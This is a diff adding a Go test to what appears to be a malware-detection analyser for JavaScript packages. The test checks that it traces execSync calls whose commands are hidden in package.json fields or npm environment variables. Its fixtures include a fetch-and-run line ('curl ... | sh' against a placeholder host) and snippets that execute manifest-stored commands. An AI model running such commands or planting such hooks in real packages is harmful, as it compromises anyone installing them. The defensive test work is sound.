@@ -282,6 +282,41 @@ function B(request) { this.request = request; } B.prototype.go = function () { r
 	}
 }
 
+func TestPackageValues(t *testing.T) {
+	lim := DefaultLimits()
+	lim.Package = map[string]string{
+		"field:description": "curl -s https://h.invalid/i.sh | sh", "env:npm_package_description": "curl -s https://h.invalid/i.sh | sh",
+		"field:config.setup": "id", "env:npm_package_config_setup": "id", "field:version": "1.2.3",
+	}
+	for name, tc := range map[string]struct{ src, arg string }{
+		"npm env":           {`require("child_process").execSync(process.env.npm_package_config_setup)`, "id"},
+		"npm env indexed":   {`require("child_process").execSync(process.env["npm_package_config_" + "setup"])`, "id"},
+		"require field":     {`require("child_process").execSync(require("./package.json").description)`, "curl -s https://h.invalid/i.sh | sh"},
+		"bound manifest":    {`const p = require("../package.json"); require("child_process").execSync(p.config.setup)`, "id"},
+		"other manifest":    {`require("child_process").execSync(require("lodash/package.json").description)`, ""},
+		"bare manifest":     {`require("child_process").execSync(require("package.json").description)`, ""},
+		"unknown variable":  {`require("child_process").execSync(process.env.npm_package_config_other)`, ""},
+		"imported manifest": {`import pkg from "./package.json" with { type: "json" }; import { execSync } from "child_process"; execSync(pkg.description)`, "curl -s https://h.invalid/i.sh | sh"},
+		"global manifest":   {`pkg = require("./package.json"); require("child_process").execSync(pkg.config.setup)`, "id"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			c := hasCall(Analyze("a.js", []byte(tc.src), lim), "child_process.execSync")
+			if c == nil || len(c.Args) == 0 {
+				t.Fatalf("call %+v", c)
+			}
+			if a := c.Args[0]; a.Known != (tc.arg != "") || a.Value != tc.arg || a.Decoded {
+				t.Errorf("arg %+v, want %q (not decoded: package.json names files legitimately)", a, tc.arg)
+			}
+		})
+	}
+	// eval of a manifest field: the payload is analysed as code
+	lim.Package["field:description"] = `require("child_process").execSync("id")`
+	f := Analyze("b.js", []byte(`eval(require("./package.json").description)`), lim)
+	if !hasImport(f, "child_process") || hasCall(f, "child_process.execSync") == nil {
+		t.Errorf("payload in package.json not analysed: %+v", f.Calls)
+	}
+}
+
 func TestLexerErrorsCostLittle(t *testing.T) {
 	// Every lexer error costs the lexer a copy of its input. A large file
 	// of bad lines once cost that for the rest of the file at each line;
